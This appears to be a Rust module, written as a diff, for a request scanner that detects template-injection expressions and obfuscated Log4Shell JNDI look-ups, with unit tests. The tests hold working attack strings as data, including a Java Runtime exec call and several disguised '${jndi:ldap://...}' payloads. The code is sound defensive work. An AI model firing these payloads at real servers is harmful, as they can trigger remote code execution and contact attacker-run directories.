@@ -1,0 +1,298 @@
+//! Expressions that a template engine, an expression language or a logger evaluates: `{{7*7}}`, `${jndi:…}`, `%{(#a=@…)}`, `<%= … %>`.
+//!
+//! Delimiters alone mean little: advertisers' macros and translation strings have them too. What counts is an inside that computes, calls or
+//! reaches for a runtime. Look-ups of Log4j are resolved as Log4j would (`${lower:J}`, `${::-j}`, `${env:X:-j}`), however nested, before the word
+//! `jndi` is looked for.
+
+use memchr::memmem;
+
+use super::finding::{Finding, Findings, Ground};
+use super::marks::Marks;
+use super::target::Part;
+use crate::request::AttackClass::{JavaInjection, Ssti};
+
+/// Opening and closing delimiters of the engines in use.
+const DELIMITERS: &[(&[u8], &[u8])] = &[
+    (b"{{", b"}}"),
+    (b"${", b"}"),
+    (b"#{", b"}"),
+    (b"%{", b"}"),
+    (b"*{", b"}"),
+    (b"~{", b"}"),
+    (b"@{", b"}"),
+    (b"{%", b"%}"),
+    (b"<%", b"%>"),
+    (b"[[", b"]]"),
+    (b"{#", b"}"),
+    (b"{@", b"}"),
+];
+
+/// Most expressions of one part that are looked into, and most bytes of each.
+const MAX_EXPRESSIONS: usize = 16;
+const MAX_EXPRESSION: usize = 1024;
+
+/// Words inside an expression that reach for the engine or the runtime under it.
+const RUNTIME: &[&[u8]] = &[
+    b"class",
+    b"runtime",
+    b"config",
+    b"request",
+    b"self",
+    b"exec",
+    b"system",
+    b"process",
+    b"import",
+    b"constructor",
+    b"freemarker",
+    b"getclass",
+    b"forname",
+    b"__",
+    b"lipsum",
+    b"cycler",
+    b"joiner",
+    b"namespace",
+    b"popen",
+    b"memberaccess",
+    b"ognl",
+    b"groovy",
+    b"python",
+    b"async",
+    b"velocity",
+    b"application",
+    b"applicationscope",
+    b"t(java",
+    b"getenv",
+    b"environment",
+    b"passthru",
+    b"print_r",
+    b"phpinfo",
+    b"include(",
+    b"file.open",
+    b"dir.entries",
+    b"_self",
+    b"registerundefinedfiltercallback",
+    b"debug",
+    b"sourceforge",
+    b"objectconstructor",
+    b"@java",
+    b"new java",
+    b"systemproperties",
+    b"hostname",
+];
+
+/// Judges one part.
+pub(super) fn judge(part: &Part<'_>, found: &mut Findings) {
+    if !part.marks.any(Marks::BRACE.and(Marks::ANGLE).and(Marks::BRACKET)) {
+        return;
+    }
+    judge_lookups(part, found);
+    let mut budget = MAX_EXPRESSIONS;
+    for (open, close) in DELIMITERS {
+        for at in memmem::find_iter(part.lower, open) {
+            if budget == 0 {
+                return;
+            }
+            budget -= 1;
+            let inside = &part.lower[at + open.len()..(at + open.len() + MAX_EXPRESSION).min(part.lower.len())];
+            let end = memmem::find(inside, close);
+            judge_inside(part, open, at, &inside[..end.unwrap_or(inside.len())], end.is_some(), found);
+        }
+    }
+}
+
+fn judge_inside(part: &Part<'_>, open: &[u8], at: usize, inside: &[u8], closed: bool, found: &mut Findings) {
+    let span = part.offset + at..part.offset + at + open.len() + inside.len();
+    let reaches = RUNTIME.iter().any(|word| memmem::find(inside, word).is_some());
+    let calls = calls_something(inside);
+    let engine = matches!(open, b"<%" | b"{%");
+    let statement = engine && STATEMENTS.iter().any(|word| inside.trim_ascii_start().starts_with(word));
+    let weight = match (computes(inside), reaches, calls) {
+        (true, ..) if closed => 60,
+        (_, true, true) => 70,
+        (_, true, false) => 50,
+        _ if statement => 55,
+        (_, false, true) if closed => 40,
+        _ if open == b"<%" => 45,
+        _ => 0,
+    };
+    if weight > 0 {
+        found.add(Ssti, weight, span, "contains an expression for a template engine to evaluate");
+    }
+}
+
+/// Beginnings of template statements and scriptlets.
+const STATEMENTS: &[&[u8]] = &[
+    b"if ",
+    b"for ",
+    b"set ",
+    b"import ",
+    b"include ",
+    b"extends ",
+    b"macro ",
+    b"block ",
+    b"debug",
+    b"=",
+    b"@",
+    b"raw",
+    b"eval",
+    b"response",
+    b"out",
+    b"system",
+    b"execute",
+    b"request",
+    b"server",
+];
+
+/// A number, an operator, a number: what probes send to see the product come back.
+fn computes(inside: &[u8]) -> bool {
+    memchr::memchr3_iter(b'*', b'+', b'-', inside).take(16).any(|at| {
+        let before = inside[..at].trim_ascii_end();
+        let after = inside[at + 1..].trim_ascii_start();
+        before.last().is_some_and(|byte| byte.is_ascii_digit() || *byte == b'\'')
+            && after.first().is_some_and(|byte| byte.is_ascii_digit() || *byte == b'\'')
+            && before.iter().rev().take_while(|byte| byte.is_ascii_digit() || **byte == b'\'').count() < 24
+            && inside[at] != b'-'
+    })
+}
+
+/// `name(`.
+fn calls_something(inside: &[u8]) -> bool {
+    memchr::memchr_iter(b'(', inside)
+        .take(16)
+        .any(|at| at > 0 && (inside[at - 1].is_ascii_alphanumeric() || inside[at - 1] == b'_'))
+}
+
+/// Log4j look-ups.
+fn judge_lookups(part: &Part<'_>, found: &mut Findings) {
+    let Some(first) = memmem::find(part.lower, b"${") else { return };
+    let span = part.offset + first..part.offset + (first + 96).min(part.lower.len());
+    let text = &part.lower[first..(first + MAX_EXPRESSION * 4).min(part.lower.len())];
+    let resolved = resolve(text);
+    let looks_up =
+        [&b"${jndi:"[..], b"$jndi:", b"{jndi:"].iter().any(|prefix| memmem::find(&resolved, prefix).is_some());
+    if looks_up {
+        let reference = Some("CVE-2021-44228");
+        let reason = "has a logger look up a name in a directory of the attacker's";
+        found.put(Finding { ground: Ground::Class(JavaInjection), weight: 95, span: span.clone(), reason, reference });
+    }
+    let evasive = [
+        &b"${lower:"[..],
+        b"${upper:",
+        b"${::-",
+        b"${env:",
+        b"${sys:",
+        b"${ctx:",
+        b"${date:",
+        b"${java:",
+        b"${main:",
+        b"${bundle:",
+        b"${script:",
+        b"${dns:",
+        b"${url:",
+        b"${base64decoder:",
+    ]
+    .iter()
+    .any(|prefix| memmem::find(text, prefix).is_some());
+    if evasive {
+        found.add(JavaInjection, 60, span, "contains look-ups of a Java logger");
+    }
+}
+
+/// Resolves look-ups from the inside out, in one pass with a stack of open braces. What cannot be resolved stays as written.
+fn resolve(text: &[u8]) -> Vec<u8> {
+    let mut out: Vec<u8> = Vec::with_capacity(text.len());
+    let mut opened: Vec<usize> = Vec::new();
+    let mut at = 0;
+    while let Some(&byte) = text.get(at) {
+        match byte {
+            b'$' if text.get(at + 1) == Some(&b'{') => {
+                opened.push(out.len());
+                out.extend_from_slice(b"${");
+                at += 2;
+                continue;
+            }
+            b'}' if !opened.is_empty() => {
+                let start = opened.pop().unwrap_or_default();
+                close(&mut out, start);
+            }
+            _ => out.push(byte),
+        }
+        at += 1;
+    }
+    out
+}
+
+/// Replaces `${…` at `start` by its value.
+fn close(out: &mut Vec<u8>, start: usize) {
+    let inside = &out[start + 2..];
+    let value = if let Some(rest) = inside.strip_prefix(b"lower:").or_else(|| inside.strip_prefix(b"upper:")) {
+        rest.to_vec()
+    } else if let Some(quoted) = inside.strip_prefix(b"date:") {
+        quoted.iter().copied().filter(|byte| *byte != b'\'').collect()
+    } else if let Some(default) = memmem::rfind(inside, b":-") {
+        // The keyed value is unknown here and as a rule empty there: the default is what comes out.
+        inside[default + 2..].to_vec()
+    } else {
+        out.push(b'}');
+        return;
+    };
+    out.truncate(start);
+    out.extend_from_slice(&value);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::decode::Tricks;
+    use super::super::marks::marks_of;
+    use super::super::target::Place;
+    use super::*;
+    use crate::request::AttackClass;
+
+    fn verdict(text: &str) -> Option<AttackClass> {
+        let lower = text.to_ascii_lowercase();
+        let part = Part {
+            place: Place::Value,
+            text: text.as_bytes(),
+            lower: lower.as_bytes(),
+            offset: 0,
+            name: b"q",
+            path: b"/",
+            marks: marks_of(text.as_bytes()),
+            tricks: Tricks::default(),
+            after_double_ampersand: false,
+        };
+        let mut found = Findings::default();
+        judge(&part, &mut found);
+        found.sum().filter(|(_, score)| *score >= 50).map(|(class, _)| class)
+    }
+
+    #[test]
+    fn an_inside_that_computes_is_an_expression() {
+        let check = |text: &str, expected: Option<AttackClass>| assert_eq!(verdict(text), expected, "{text}");
+        check("{{7*7}}", Some(Ssti));
+        check("${191*7}", Some(Ssti));
+        check("#{'a'*3}", Some(Ssti));
+        check("{{config.items()}}", Some(Ssti));
+        check("${T(java.lang.Runtime).getRuntime().exec('id')}", Some(Ssti));
+        check("{% for x in ().__class__.__base__ %}", Some(Ssti));
+        check("<%= 7 %>", Some(Ssti));
+        check("#{user.id}", None);
+        check("{{name}}", None);
+        check("${amount}", None);
+        check("rate(x{job=\"a\"}[5m])", None);
+        check("{\"v\":1}", None);
+        check("[[page]]", None);
+    }
+
+    #[test]
+    fn look_ups_are_resolved_before_they_are_read() {
+        let check = |text: &str, expected: Option<AttackClass>| assert_eq!(verdict(text), expected, "{text}");
+        check("${jndi:ldap://203.0.113.9/a}", Some(JavaInjection));
+        check("${${lower:J}ndi:${lower:rmi}://h/a}", Some(JavaInjection));
+        check("${${::-j}${::-n}${::-d}${::-i}:dns://h}", Some(JavaInjection));
+        check("${${env:NOPE:-j}ndi:ldap://h/a}", Some(JavaInjection));
+        check("${${date:'j'}ndi:ldap://h/a}", Some(JavaInjection));
+        assert_eq!(resolve(b"${${lower:${upper:j}}ndi:x}"), b"${jndi:x}");
+        assert_eq!(resolve(b"}${a}${"), b"}${a}${");
+    }
+}
